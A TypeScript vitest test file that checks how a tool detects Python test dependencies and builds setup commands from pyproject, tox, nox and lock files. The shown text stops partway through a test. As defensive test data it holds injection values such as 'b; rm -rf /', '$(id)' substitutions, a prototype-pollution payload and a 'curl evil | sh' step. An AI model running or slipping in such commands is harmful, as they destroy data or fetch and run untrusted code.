import { describe, expect, test } from 'vitest';
import { detectChecks, reportPlan, venvPath, wantedTools } from '../../../src/core/settings/index.ts';
import { pythonProject } from '../../../src/core/settings/python-project.ts';
import {
  broughtBySetup,
  shownSetup,
  startsProgram,
  withPythonTools,
} from '../../../src/core/settings/python-setup.ts';
import { inVenv } from '../../../src/core/settings/virtual-environment.ts';

const project = (toml: string, read: Record<string, string> = {}) =>
  pythonProject(new Set(['pyproject.toml']), { 'pyproject.toml': toml, ...read });

describe('what a Python project needs for its tests', () => {
  test.each<[what: string, toml: string, requirements: readonly string[]]>([
    [
      'groups, with the groups that they include, also in a circle',
      '[dependency-groups]\ntest = ["pytest>=7", {include-group = "cov"}]\ncov = ["coverage[toml]", {include-group = "test"}]\ndocs = ["sphinx"]\n',
      ['pytest>=7', 'coverage[toml]'],
    ],
    [
      'groups of Poetry, with their versions as pip writes them',
      '[tool.poetry.group.test.dependencies]\npytest = "^7.4"\nx = "~1.2.3"\ny = "^0.2.1"\nz = "1.4.*"\nany = "*"\nw = {version = ">=2,<4", extras = ["a"]}\neither = "^1 || ^2"\nexact = "1.0"\npython = "^3.8"\nours = {path = "../ours"}\n[tool.poetry.group.docs.dependencies]\nsphinx = "*"\n',
      [
        ...['pytest>=7.4,<8', 'x>=1.2.3,<1.3', 'y>=0.2.1,<0.3', 'z==1.4.*', 'any', 'w[a]>=2,<4'],
        ...['either', 'exact==1.0'],
      ],
    ],
    [
      'development dependencies of older Poetry, of pdm and of uv',
      '[tool.poetry.dev-dependencies]\nmock = "^0.0.3"\n[tool.pdm.dev-dependencies]\ntest = ["pytest", "-e file:///x"]\nlint = ["ruff"]\n[tool.uv]\ndev-dependencies = ["nose2"]\n',
      ['nose2', 'pytest', 'mock>=0.0.3,<0.0.4'],
    ],
    [
      'environments of hatch in which tests run',
      '[tool.hatch.envs.default]\ndependencies = ["pytest"]\n[tool.hatch.envs.hatch-test]\nextra-dependencies = ["hypothesis"]\n[tool.hatch.envs.docs]\ndependencies = ["mkdocs"]\n',
      [
        ...['pytest', 'coverage[toml]', 'pytest-mock', 'pytest-rerunfailures', 'pytest-xdist[psutil]'],
        'hypothesis',
      ],
    ],
    [
      'what a group for development includes, without documentation and releases',
      '[dependency-groups]\ndev = [{include-group = "docs"}, {include-group = "pkg-meta"}, {include-group = "test"}, {include-group = "type"}]\ntest = ["pytest>=9"]\ntype = ["ty", {include-group = "docs"}]\ndocs = ["sphinx>=9.1"]\npkg-meta = ["twine"]\n',
      ['pytest>=9', 'ty'],
    ],
    [
      'all that a group for tests includes',
      '[dependency-groups]\ntest = ["pytest", {include-group = "bench"}]\nbench = ["pytest-benchmark"]\n',
      ['pytest', 'pytest-benchmark'],
    ],
    [
      'nothing that comes from an address, is an option, or is no package',
      '[dependency-groups]\ntest = ["a @ https://example.org/a.whl", "-r other.txt", "b; rm -rf /", "c$(id)", "d`id`", "e\\nf", 3, "g; python_version < \'3.9\'"]\n',
      ["g; python_version < '3.9'"],
    ],
  ])('%s', (_, toml, requirements) => {
    expect(project(toml).requirements).toEqual(requirements);
  });

  test('extras, wherever they are declared', () => {
    expect(project('[project.optional-dependencies]\ntest = []\n"dev" = []\nplot = ["x"]\n').extras).toEqual([
      'test',
      'dev',
    ]);
    expect(project('[tool.poetry.extras]\ntesting = ["x"]\n').extras).toEqual(['testing']);
    const flit =
      '[tool.flit.metadata]\nmodule = "x"\n[tool.flit.metadata.requires-extra]\ntest = ["x"]\ndoc = []\n';
    expect(project(flit).extras).toEqual(['test']);
    expect(
      project('[tool.setuptools.dynamic.optional-dependencies]\ntest = {file = "t.txt"}\n').extras,
    ).toEqual(['test']);
    const legacy = '[options.extras_require]\ntests =\n    pytest\ndocs = sphinx\n';
    expect(project('', { 'setup.cfg': legacy }).extras).toEqual(['tests']);
    const setup =
      'setup(\n  name="x",\n  extras_require = {\n    # "no": 1\n    "tests": ["pytest", {"dev": 1}],\n    \'docs\': [],\n    "develop": [],\n  },\n  x={"unit": 1},\n)\nextras_require["testing"] = []\n';
    expect(project('', { 'setup.py': setup }).extras).toEqual(['testing', 'tests', 'develop']);
    const hostile = `extras_require={"tests": []}\n${'extras_require={('.repeat(3_800)}`;
    expect(project('', { 'setup.py': hostile }).extras).toEqual(['tests']);
    const features =
      '[project.optional-dependencies]\ncli = ["x"]\n[tool.hatch.envs.test]\nfeatures = ["cli", "nowhere"]\n';
    expect(project(features).extras).toEqual(['cli']);
  });

  test('the environment for tests of hatch, also in hatch.toml', () => {
    const hatch =
      '[envs.hatch-test]\nextra-dependencies = ["flit-core"]\n[envs.docs]\ndependencies = ["mkdocs"]\n';
    expect(project('', { 'hatch.toml': hatch }).requirements).toEqual([
      ...['coverage[toml]', 'pytest', 'pytest-mock', 'pytest-rerunfailures', 'pytest-xdist[psutil]'],
      'flit-core',
    ]);
  });

  test('it is a package, or says that it is none', () => {
    expect(project('[project]\nname = "x"\n').isPackage).toBe(true);
    expect(project('[tool.poetry]\nname = "x"\n').isPackage).toBe(true);
    expect(project('[tool.poetry]\nname = "x"\npackage-mode = false\n').isPackage).toBe(false);
    expect(project('[project]\nname = "x"\n[tool.uv]\npackage = false\n').isPackage).toBe(false);
    expect(project('[tool.ruff]\nline-length = 100\n').isPackage).toBe(false);
  });

  test.each([
    '{',
    'a = ',
    `x = ${'['.repeat(5_000)}`,
    'project = 3',
    '[[tool]]\n[[project]]\n',
    'tool = []\ndependency-groups = "x"\n',
    '[tool]\npoetry = 1\npdm = []\nhatch = "x"\nuv = 1979-05-27\nsetuptools = {dynamic = 4}\nflit = {metadata = 3}\n',
    '[tool.poetry.group]\ntest = 3\n[tool.hatch.envs]\ntest = [1]\n[tool.pdm]\ndev-dependencies = {test = 5}\n',
    '__proto__ = {polluted = true}\n[constructor]\nprototype = 1\n',
    '# '.repeat(300_000),
  ])('a hostile or damaged pyproject.toml says nothing (%#)', (toml) => {
    expect(project(toml)).toMatchObject({ requirements: [], extras: [], groups: [] });
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
  });
});

const detect = (files: Record<string, string>) =>
  detectChecks({ files: Object.keys(files), read: files }).commands;
const TESTED = { 'tests/conftest.py': '' };

describe('what tox installs for the tests is installed without tox', () => {
  const detected = (files: Record<string, string>) =>
    detectChecks({ files: Object.keys(files), read: files });
  const START = 'python3 -m venv --system-site-packages .venv && { .venv/bin/python -m pip install';
  const END = ' || .venv/bin/python -m pytest --version; }';
  const PACKAGE = { 'setup.py': 'setup(name="x", extras_require={"tests": []})\n', ...TESTED };

  test('its packages, lists, extras and groups, but for those of single environments', () => {
    const ini = `[tox]
envlist = py{310,311}-dj{52,main}
[needs]
deps =
    sybil >= 1.3.0  # a reason
    pytest-twisted >= 1.14.3
[testenv]
deps =
    {[needs]deps}
    dj52: django~=5.2.0
    djmain: https://example.org/main.tar.gz
    pytest >= 8.4.1
    Attrs>=21
    -r tests/needs.txt
    -r nowhere.txt
    $(touch x)
extras = socks, tests
dependency_groups =
    optional
    dj52: django52
[testenv:docs]
deps = sphinx
`;
    const toml =
      '[project]\nname = "x"\n[dependency-groups]\ntest = ["attrs>=20"]\noptional = ["markdown"]\ndjango52 = ["django"]\n';
    const files = { ...PACKAGE, 'pyproject.toml': toml, 'tox.ini': ini, 'tests/needs.txt': '' };
    const { commands, others } = detected(files);
    expect(commands.setup).toBe(
      `${START} -e '.[tests,socks]' -r tests/needs.txt 'attrs>=20' 'markdown' 'sybil >= 1.3.0' 'pytest-twisted >= 1.14.3' 'pytest >= 8.4.1'${END}`,
    );
    expect(others.map(({ commands: { setup } }) => setup)).toEqual([
      `${START} -e '.[tests]' 'attrs>=20' pytest${END}`,
    ]);
  });

  test('its variables, but for those of Python and of tools, and values that only tox can fill in', () => {
    const ini =
      '[testenv]\nsetenv =\n    PYTHONWARNINGS = error\n    DJANGO_SETTINGS_MODULE = tests.settings\n    DB_NAME = {env:DB_NAME:x}\n    BAD = $(id)\n    API_TOKEN = x\n    PYTEST_ADDOPTS = -ra\n    NODE_OPTIONS = --x\n    ASYNC_TEST_TIMEOUT=25\n';
    expect(detect({ ...PACKAGE, 'tox.ini': ini }).test).toBe(
      'DJANGO_SETTINGS_MODULE=tests.settings ASYNC_TEST_TIMEOUT=25 .venv/bin/python -m pytest',
    );
  });

  test('lists for tests may be in folders', () => {
    const lists = {
      'requirements/local.txt': '-r base.txt\n',
      'requirements/production.txt': '',
      'tests/requirements.txt': '',
    };
    expect(detect({ ...PACKAGE, ...lists }).setup).toBe(
      `${START} -e '.[tests]' -r requirements/local.txt -r tests/requirements.txt pytest${END}`,
    );
  });

  test('also of pyproject.toml, and of its own TOML', () => {
    const old =
      '[tool.tox]\nlegacy_tox_ini = """\n[core]\ndeps = mock\n[testenv]\ndeps =\n    {[core]deps}\n    sybil\n"""\n';
    expect(detect({ ...PACKAGE, 'pyproject.toml': old }).setup).toBe(
      `${START} -e '.[tests]' 'mock' 'sybil' pytest${END}`,
    );
    const native =
      '[env_run_base]\ndeps = ["-r needs.txt", "sybil>6"]\nextras = ["tests"]\ncommands = [["pytest"]]\n';
    const both = [
      { 'tox.toml': native },
      { 'pyproject.toml': native.replace('env_run_base', 'tool.tox.env_run_base') },
    ];
    for (const files of both)
      expect(detect({ ...PACKAGE, ...files, 'needs.txt': '' }).setup).toBe(
        `${START} -e '.[tests]' -r needs.txt 'sybil>6' pytest${END}`,
      );
  });

  test.each([
    ['{envpython} -m unittest -v {posargs}', '', '.venv/bin/python -m unittest -v'],
    [
      'python -m unittest discover -s {toxinidir}/checks',
      '',
      '.venv/bin/python -m unittest discover -s ./checks',
    ],
    [
      '{envpython} runtests.py {posargs}',
      'changedir = tests',
      '(cd tests && A=1 ../.venv/bin/python runtests.py)',
    ],
    ['python -m unittest', 'changedir = {toxworkdir}', '.venv/bin/python -m unittest'],
    ['{env:RUN} -m unittest', '', '.venv/bin/python -m unittest discover -s tests'],
  ])('its command: %s', (command, more, test) => {
    const set = more.startsWith('changedir = tests') ? 'setenv = A=1' : '';
    const ini = `[testenv]\n${more}\n${set}\ncommands = ${command}\n`;
    const files = { 'setup.py': 'setup(name="x")\n', 'tests/test_a.py': '', 'tox.ini': ini };
    expect(detect(files).test).toBe(test);
  });

  test('references in a circle end', () => {
    const ini = '[a]\ndeps = {[b]deps}\n[b]\ndeps = {[a]deps}\n[testenv]\ndeps = {[a]deps}\n';
    expect(detect({ ...PACKAGE, 'tox.ini': ini }).setup).toBe(`${START} -e '.[tests]' pytest${END}`);
  });

  test('references that multiply do not: each is followed once', () => {
    const ini = `[testenv]\ndeps =\n    sybil\n${'    {[testenv]deps}\n'.repeat(3_000)}`;
    expect(detect({ ...PACKAGE, 'tox.ini': ini }).setup).toBe(`${START} -e '.[tests]' 'sybil' pytest${END}`);
  });

  test.each<[where: string, files: Record<string, string>, before: string]>([
    [
      'a list',
      { 'requirements-dev.txt': 'Sybil==7 ; python_version > "3"\n' },
      `-e '.[tests]' -r requirements-dev.txt`,
    ],
    [
      'an extra in setup.py',
      { 'setup.py': 'setup(extras_require={"tests": ["sybil==7"]})' },
      `-e '.[tests]'`,
    ],
    [
      'an extra in setup.cfg',
      { 'setup.cfg': '[options.extras_require]\ntest =\n    sybil==7\n' },
      `-e '.[test,tests]'`,
    ],
    [
      'an extra in pyproject.toml',
      { 'pyproject.toml': '[project]\nname = "x"\n[project.optional-dependencies]\ntest = ["sybil==7"]\n' },
      `-e '.[test,tests]'`,
    ],
  ])('a version that %s contradicts is not asked for', (_, files, before) => {
    const read = { ...PACKAGE, 'tox.ini': '[testenv]\ndeps =\n    sybil<7\n    mock\n', ...files };
    expect(detect(read).setup).toBe(`${START} ${before} 'mock' pytest${END}`);
  });

  test('set-ups with fewer packages are tried before CI, which may install tox', () => {
    const workflow =
      'on: push\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - run: pip install tox\n      - run: tox -e py\n';
    const tox = '[testenv]\ndeps = psycopg2\ncommands = pytest\n';
    const { others } = detected({ ...PACKAGE, 'tox.ini': tox, '.github/workflows/ci.yml': workflow });
    expect(others.map(({ commands }) => commands.test)).toEqual([
      '.venv/bin/python -m pytest',
      '.venv/bin/python -m tox --skip-pkg-install -e py',
    ]);
  });

  test('if packages for development cannot be had, those for tests suffice', () => {
    const toml =
      '[project]\nname = "x"\n[project.optional-dependencies]\ntests = ["pytest"]\ndev = ["sphinx"]\n';
    const { commands, others } = detected({ ...TESTED, 'pyproject.toml': toml });
    expect(commands.setup).toBe(`${START} -e '.[tests,dev]' pytest${END}`);
    expect(others[0]?.commands.setup).toBe(`${START} -e '.[tests]' pytest${END}`);
  });

  test('lists for development, which may name sources of a code host, are left out then, too', () => {
    const listed = (...lists: readonly string[]) => {
      const files = { ...TESTED, 'setup.py': '', ...Object.fromEntries(lists.map((path) => [path, ''])) };
      return detected(files).others.map(({ commands }) => commands.setup);
    };
    expect(listed('requirements/dev.txt', 'requirements/test.txt')[0]).toBe(
      `${START} -e '.' -r requirements/test.txt pytest${END}`,
    );
    expect(listed('requirements-dev.txt')).toEqual([]);
  });
});

describe('a locked project is set up by the program that wrote the lock file', () => {
  const setupOf = (lock: string, toml = '[project]\nname = "x"\n'): string =>
    (detect({ ...TESTED, 'pyproject.toml': toml, [lock]: '' }).setup ?? '').split('; }; } && ')[1] ?? '';

  test('uv: all extras and groups, unless they exclude each other', () => {
    expect(setupOf('uv.lock')).toBe(
      'UV_PYTHON_DOWNLOADS=never uv sync --frozen --python python3 --all-extras --all-groups',
    );
    expect(
      setupOf(
        'uv.lock',
        '[project.optional-dependencies]\ntest = []\ncpu = []\n[dependency-groups]\ndev = []\n[tool.uv]\nconflicts = [[{extra = "cpu"}, {extra = "gpu"}]]\n[tool.uv.workspace]\nmembers = ["x"]\n',
      ),
    ).toBe(
      'UV_PYTHON_DOWNLOADS=never uv sync --frozen --python python3 --all-packages --extra test --group dev',
    );
  });

  test.each([
    [
      'uv.lock',
      '[project.optional-dependencies]\ntest = []\ndocs = []\n[dependency-groups]\ndev = []\ndocs-html = []\n',
      'UV_PYTHON_DOWNLOADS=never uv sync --frozen --python python3 --all-extras --no-extra docs --all-groups --no-group docs-html',
    ],
    [
      'poetry.lock',
      '[tool.poetry.group.dev.dependencies]\n[tool.poetry.group.docs.dependencies]\n[tool.poetry.group.release]\noptional = true\n',
      'POETRY_VIRTUALENVS_IN_PROJECT=true poetry install --no-interaction --all-extras --without docs',
    ],
    [
      'pdm.lock',
      '[project.optional-dependencies]\nsite = []\n[tool.pdm.dev-dependencies]\ntest = []\ndoc = []\n',
      'pdm sync -G :all --without doc,site',
    ],
  ])(
    'without groups and extras for documentation and releases, which tests do not need: %s',
    (lock, toml, setup) => {
      expect(setupOf(lock, toml)).toBe(setup);
    },
  );

  test('poetry: its optional groups by name', () => {
    expect(
      setupOf(
        'poetry.lock',
        '[tool.poetry.group.test]\noptional = true\n[tool.poetry.group.dev.dependencies]\n',
      ),
    ).toBe('POETRY_VIRTUALENVS_IN_PROJECT=true poetry install --no-interaction --all-extras --with test');
  });

  test('pdm and pipenv', () => {
    expect(setupOf('pdm.lock')).toBe('pdm sync -G :all');
    expect(setupOf('Pipfile.lock')).toBe('PIPENV_VENV_IN_PROJECT=1 pipenv sync --dev');
  });

  test('which set-up brings along where it is missing, in the version that is wanted', () => {
    const toml = '[project]\nname = "x"\n[tool.uv]\nrequired-version = ">=0.5"\n';
    const setup = detect({ ...TESTED, 'pyproject.toml': toml, 'uv.lock': '' }).setup ?? '';
    expect(setup).toContain('command -v uv >/dev/null || { python3 -m venv ~/.local/lib/uv');
    expect(setup).toContain("pip install 'uv>=0.5'");
    const paths = ['pyproject.toml', 'uv.lock'];
    expect(wantedTools(paths, new Map(), setup).broughtBySetup).toEqual(['uv']);
    expect(wantedTools(paths, new Map(), 'uv sync').broughtBySetup).toEqual([]);
  });
});

describe('programs of the virtual environment', () => {
  test.each([
    [{ setup: 'python3 -m venv .venv && .venv/bin/pip install -e .' }],
    [{ setup: 'UV_PYTHON_DOWNLOADS=never uv sync --frozen' }],
    [{ setup: 'pdm sync -G :all' }],
    [{ setup: 'POETRY_VIRTUALENVS_IN_PROJECT=true poetry install' }],
    [{ setup: 'PIPENV_VENV_IN_PROJECT=1 pipenv sync --dev' }],
    // Packages of the working tree, without set-up.
    [{ test: '.venv/bin/python -m pytest' }],
  ])('come first on PATH: %j', (checks) => {
    expect(venvPath(checks)).toBe('export PATH="$PWD/.venv/bin:$PATH"; ');
  });

  test.each([[{}], [{ setup: 'npm ci', test: 'npm test' }], [{ setup: 'poetry install' }]])(
    'are elsewhere, or there are none: %j',
    (checks) => {
      expect(venvPath(checks)).toBe('');
    },
  );

  test.each<[checks: { setup: string; test?: string }, command: string, folders: readonly string[]]>([
    [{ setup: '(cd backend && uv sync)' }, '(cd backend && make test)', ['backend/', '']],
    [{ setup: '(cd backend && pdm install)', test: '(cd backend && make test)' }, '', ['backend/']],
    [{ setup: '(cd a && PIPENV_VENV_IN_PROJECT=1 pipenv sync)' }, '', ['a/']],
    [{ setup: '(cd a/b && ../.venv/bin/python -m pip install x)' }, '', ['a/']],
    [{ setup: '(cd a && "$PWD/.venv/bin/pip" install x)' }, '', ['a/']],
    [{ setup: '(cd a && ../../.venv/bin/pip install x && ~/.venv/bin/pip install x)' }, '', []],
    [{ setup: '(cd a && pdm sync) && (cd b && pdm sync)' }, 'cd b && make test', ['b/', 'a/']],
    [{ setup: '(cd a && pdm sync) && (cd b && pdm sync)' }, 'make test', ['a/', 'b/']],
  ])('come from the folders that set-up enters: %j for %j', (checks, command, folders) => {
    const path = folders.map((folder) => `$PWD/${folder}.venv/bin:`).join('');
    expect(venvPath(checks, command)).toBe(path && `export PATH="${path}$PATH"; `);
  });

  describe('of a project in a folder', () => {
    const testOf = (files: Record<string, string>, runs: readonly string[], folder = 'backend') => {
      const steps = runs.map((run) => `      - run: ${run}\n        working-directory: ${folder}\n`).join('');
      const ci = `on: push\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n${steps}`;
      const read = { 'README.md': '', ...files, '.github/workflows/ci.yml': ci };
      return detectChecks({ files: Object.keys(read), read }).commands.test;
    };

    test.each([
      ['uv', 'uv sync --locked', 'uv run pytest'],
      ['pdm', 'pdm install', 'pdm run pytest'],
    ])('%s makes its environment there', (_, install, run) => {
      const files = { 'backend/pyproject.toml': '', 'backend/tests/test_a.py': 'def test_a(): pass\n' };
      expect(testOf(files, [install, run])).toBe('(cd backend && .venv/bin/python -m pytest)');
    });

    test('uv makes one at the top for a workspace', () => {
      const files = {
        'pyproject.toml': '[tool.uv.workspace]\nmembers = ["packages/*"]\n',
        'packages/a/pyproject.toml': '',
        'packages/a/test_a.py': 'def test_a(): pass\n',
      };
      const runs = ['uv sync', 'uv run coverage run -m unittest'];
      expect(testOf(files, runs, 'packages/a')).toContain('../../.venv/bin/python -m coverage');
    });

    test('poetry makes its own elsewhere', () => {
      const files = { 'backend/pyproject.toml': '', 'backend/tests/test_a.py': '' };
      expect(testOf(files, ['poetry install', 'poetry run pytest'])).toBe(
        '(cd backend && poetry run pytest)',
      );
    });
  });

  test('`uv run` of a workflow goes there, too', () => {
    const workflow =
      'on: push\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - run: uv sync\n      - run: uv run coverage run -m unittest\n';
    const files = { 'uv.lock': '', 'x.py': '', '.github/workflows/ci.yml': workflow };
    expect(detectChecks({ files: Object.keys(files), read: files }).commands.test).toBe(
      '.venv/bin/python -m coverage run -m unittest',
    );
  });
});

describe('where the program that wrote the lock file fails', () => {
  const othersOf = (files: Record<string, string>) =>
    detectChecks({ files: Object.keys(files), read: files }).others;
  const toml =
    '[project]\nname = "x"\n[project.optional-dependencies]\ntest = ["pytest"]\n[dependency-groups]\ndev = ["hypothesis"]\n';
  const workflow =
    'on: push\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - run: uv sync --group dev\n      - run: uv run pytest\n';

  test.each(['uv.lock', 'poetry.lock', 'pdm.lock', 'Pipfile.lock'])(
    'pip installs what pyproject.toml asks for (%s)',
    (lock) => {
      const [last] = othersOf({ ...TESTED, 'pyproject.toml': toml, [lock]: '' }).slice(-1);
      expect(last?.commands.setup).toBe(
        "python3 -m venv --system-site-packages .venv && { .venv/bin/python -m pip install -e '.[test]' 'hypothesis' pytest || .venv/bin/python -m pytest --version; }",
      );
      expect(last?.commands.test).toBe('.venv/bin/python -m pytest');
    },
  );

  test('pip is tried after the commands of the workflow, and its tests run without that program', () => {
    const files = { ...TESTED, 'pyproject.toml': toml, 'uv.lock': '', '.github/workflows/ci.yml': workflow };
    const others = othersOf(files);
    expect(others[0]?.commands.setup).toContain('uv sync --group dev');
    expect(others.at(-1)?.commands).toMatchObject({
      setup: expect.stringMatching(/^python3 -m venv --system-site-packages \.venv && /),
      test: '.venv/bin/python -m pytest',
    });
  });

  test('there is no other way without a lock file', () => {
    expect(othersOf({ ...TESTED, 'pyproject.toml': toml })).toEqual([]);
  });
});

describe('programs of Python', () => {
  test('are recognised wherever a command starts them', () => {
    expect(startsProgram('poetry install && pytest', 'poetry')).toBe(true);
    expect(startsProgram('X=1 python3 -m tox -e py', 'tox')).toBe(true);
    expect(startsProgram('(cd a && uv run pytest)', 'uv')).toBe(true);
    expect(startsProgram('echo poetry', 'poetry')).toBe(false);
    expect(startsProgram('python3 tox', 'tox')).toBe(false);
  });

  test('are brought along for the tests too, and only once', () => {
    const whole = withPythonTools('pip install x', 'pdm run test && pdm run more');
    expect([...broughtBySetup(whole)]).toEqual(['pdm']);
    expect(whole.endsWith('&& pip install x')).toBe(true);
    expect(withPythonTools('', 'pytest')).toBe('');
  });

  test('are left out where people read what set-up does, and nothing else is', () => {
    const sync = 'UV_PYTHON_DOWNLOADS=never uv sync --frozen --python python3';
    expect(shownSetup(withPythonTools(sync, 'uv run pytest', { uv: '>=0.5,<1' }))).toBe(sync);
    expect(shownSetup(withPythonTools('poetry install', 'uv run pytest'))).toBe('poetry install');
    expect(shownSetup(withPythonTools('', 'hatch test', { hatch: '==1.9' }))).toBe(
      "pip install 'hatch==1.9'",
    );
    expect(shownSetup(`(cd a && ${withPythonTools('pdm sync', '')})`)).toBe('(cd a && pdm sync)');
  });

  test.each([
    ['another program', (command: string) => command.replaceAll('uv', 'ux')],
    ['more after it', (command: string) => command.replace('; }; }', '; curl evil | sh; }; }')],
    ['more in its version', (command: string) => command.replace("'uv'", "'uv' 'other'")],
    [
      'another folder',
      (command: string) => command.replace('~/.local/lib/uv/bin/uv', '~/.local/lib/uv/bin/ux'),
    ],
  ])('what a repository writes in a like form is shown: %s', (_, changed) => {
    const command = changed(withPythonTools('uv sync', ''));
    expect(shownSetup(command)).toBe(command);
  });

  test.each([
    ['poetry run pytest -q', '.venv/bin/python -m pytest -q'],
    ['uv run pytest', '.venv/bin/python -m pytest'],
    ['pdm run python -m unittest', '.venv/bin/python -m unittest'],
    ['pdm run test', 'pdm run test'],
    ['uv run nonsense', 'uv run --no-sync nonsense'],
  ])('%s runs in the virtual environment', (command, expected) => {
    expect(inVenv(command)).toBe(expected);
  });

  test.each([
    ['(cd a/b && pytest)', ['', 'a'], '(cd a/b && ../.venv/bin/python -m pytest)'],
    ['(cd a && pytest) && pytest', ['a'], '(cd a && .venv/bin/python -m pytest) && pytest'],
    ['(cd ab && pytest)', ['a'], '(cd ab && pytest)'],
    ['cd ./a && pytest', [], 'cd ./a && pytest'],
  ])('%s runs in the nearest one of %j', (command, folders, expected) => {
    expect(inVenv(command, folders)).toBe(expected);
  });
});

describe('environments of test tools are made by set-up, and the tests install nothing', () => {
  const ci = (...runs: readonly string[]): string =>
    `on: push\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n${runs.map((run) => `      - run: ${run}\n`).join('')}`;
  const PACKAGE = { 'pyproject.toml': '[project]\nname = "x"\n', 'tests/check.py': '' };
  const EDITABLE = (folder: string) =>
    `for one in ${folder}/*/bin/python; do .venv/bin/python -m pip --python "$one" install --no-deps -e . || exit 1; done`;
  const start = 'python3 -m venv --system-site-packages .venv && .venv/bin/python -m pip install';

  test('tox, of whose versions of Python the sandbox has one', () => {
    const files = {
      ...PACKAGE,
      'tox.ini': '[tox]\nenvlist = py{310,311}\n[testenv]\ncommands = {envpython} tests/check.py\n',
    };
    expect(detect({ ...files, '.github/workflows/ci.yml': ci('pip install tox', 'tox') })).toEqual({
      setup: `${start} tox && .venv/bin/python -m tox --notest -e py && ${EDITABLE('.tox')}`,
      test: '.venv/bin/python -m tox --skip-pkg-install -e py',
    });
    // Where CI has it from elsewhere, set-up installs it.
    expect(detect({ ...files, '.github/workflows/ci.yml': ci('tox -e unit') })).toEqual({
      setup: `${start} tox && .venv/bin/python -m tox --notest -e unit && ${EDITABLE('.tox')}`,
      test: '.venv/bin/python -m tox --skip-pkg-install -e unit',
    });
  });

  test.each([
    ['pyproject.toml', '[project]\nname = "x"\n[tool.tox]\nenv_list = ["3.13", "style"]\n', ' -e py'],
    ['tox.toml', 'env_list = ["lint", { product = [["py3.12", "py3.13"], ["a"]] }]\n', ' -e py'],
    ['tox.toml', 'env_list = [{ prefix = "py3.", start = 12 }]\n', ' -e py'],
    ['tox.toml', 'env_list = ["unit", "lint"]\n', ''],
    ['tox.toml', 'env_list = "3.13"\n', ''],
  ])('tox, whose own TOML lists the versions: %s, %s', (file, text, options) => {
    const files = { ...PACKAGE, [file]: text, '.github/workflows/ci.yml': ci('uvx tox run') };
    expect(detect(files).test).toBe(`.venv/bin/python -m tox --skip-pkg-install${options}`);
  });

  test('nox', () => {
    const files = { ...PACKAGE, '.github/workflows/ci.yml': ci('pip install nox', 'nox -s tests') };
    expect(detect(files)).toEqual({
      setup: `${start} nox && .venv/bin/python -m nox --install-only -s tests && ${EDITABLE('.nox')}`,
      test: '.venv/bin/python -m nox -R -s tests',
    });
  });

  test.each([
    [
      `session.run("python", "run_tests.py", "--all", *session.posargs)`,
      '.venv/bin/python run_tests.py --all',
    ],
    [`session.run("stestr", "run", external=True)`, undefined],
    [`session.run("python", f"{HERE}/run_tests.py")`, undefined],
  ])('a session of nox that no workflow starts runs in the same environment: %s', (line, expected) => {
    const noxfile = `import nox\n\n@nox.session\ndef tests(session):\n    session.install("click")\n    ${line}\n`;
    const { setup, test: command } = detect({ ...PACKAGE, 'noxfile.py': noxfile });
    expect(command).toBe(expected);
    if (expected !== undefined) expect(setup).toContain("-e '.' 'click'");
  });

  const NOXFILE = `import nox

@nox.session(python=["3.9", "3.14"])
def tests(session):
    session.install("-e", ".[web]", "pytest", 'respx<1; python_version<"4"', f"django=={version}")
    session.install("-r", "tests/more.txt", "-c", "limits.txt", *nox.project.dependency_groups(all, "mocks"))
    session.run("pytest", *session.posargs)
`;

  test.each([
    [`nox -s tests-\${{ matrix.python }}`, '-R -P python3 -s tests'],
    [`nox -s tests --python \${{ matrix.python }} -- -x`, '-R -P python3 -s tests -- -x'],
    [`uvx nox --session "tests-\${{ matrix.python }}"`, '-R -P python3 -s tests'],
    [`nox -p \${{ matrix.python }}`, '-R -P python3'],
    ['nox -s tests-3.9 "tests(django=5)"', '-R -P python3 -s tests "tests(django=5)"'],
    ['nox -s tests -p 3.9', '-R -s tests -p 3.9'],
  ])('nox, of whose versions of Python the sandbox has one: %s', (command, options) => {
    const files = { ...PACKAGE, 'noxfile.py': NOXFILE, '.github/workflows/ci.yml': ci(command) };
    expect(detect(files).test).toBe(`.venv/bin/python -m nox ${options}`);
  });

  test('several parts of nox', () => {
    const both = 'nox -s tests -- tests/unit && nox --no-install -s tests -- tests/more';
    const files = { ...PACKAGE, '.github/workflows/ci.yml': ci(both) };
    const nox = '.venv/bin/python -m nox';
    expect(detect(files)).toEqual({
      setup: `${start} nox && ${nox} --install-only -s tests -- tests/unit && ${nox} --install-only -s tests -- tests/more && ${EDITABLE('.nox')}`,
      test: `${nox} -R -s tests -- tests/unit && ${nox} -R -s tests -- tests/more`,
    });
  });

  test('where pytest runs without nox, set-up installs what the session for tests does', () => {
    const toml =
      '[project]\nname = "x"\n[tool.pytest.ini_options]\nx = 1\n[dependency-groups]\nmocks = ["moto"]\n';
    const files = { 'pyproject.toml': toml, 'noxfile.py': NOXFILE, 'tests/more.txt': '' };
    expect(detect(files).setup).toContain(
      `-e '.[web]' -r tests/more.txt 'moto' 'pytest' 'respx<1; python_version<"4"' ||`,
    );
    const { others } = detectChecks({ files: Object.keys(files), read: files });
    expect(others[0]?.commands.setup).toContain("-e '.' pytest ||");
  });

  test.each([
    ['tox -e py', { 'tox.ini': '[tox]\nenvlist = py\n[testenv]\ncommands = pytest {posargs}\n' }],
    ['tox run -v -e py -- -x', { 'tox.ini': '[testenv]\ncommands = pytest {posargs}\n' }],
    ['nox -s tests', { 'noxfile.py': NOXFILE }],
    ['nox -v --session=tests -- -x', { 'noxfile.py': NOXFILE }],
  ])('%s has a report of pytest', (command, files) => {
    const read = { ...PACKAGE, ...files, '.github/workflows/ci.yml': ci('pip install tox nox', command) };
    const { commands, others } = detectChecks({ files: Object.keys(read), read });
    const tests = [commands, ...others.map((one) => one.commands)].map((one) => one.test ?? '');
    const found = tests.find((one) => /^\.venv\/bin\/python -m [nt]ox /.test(one)) ?? '';
    const plan = reportPlan(found, files);
    expect(plan.commands).toMatchObject([
      {
        command: found.replace('--session=', '-s '),
        report: { format: 'junit' },
        env: { PYTEST_ADDOPTS: expect.any(String) },
      },
    ]);
    expect(plan).not.toHaveProperty('hint');
  });

  test('hatch, which is brought along', () => {
    const files = { ...PACKAGE, '.github/workflows/ci.yml': ci('pip install hatch', 'hatch run test:unit') };
    const { setup = '', test: command } = detect(files);
    expect(command).toBe('hatch run test:unit');
    expect([...broughtBySetup(setup)]).toEqual(['hatch']);
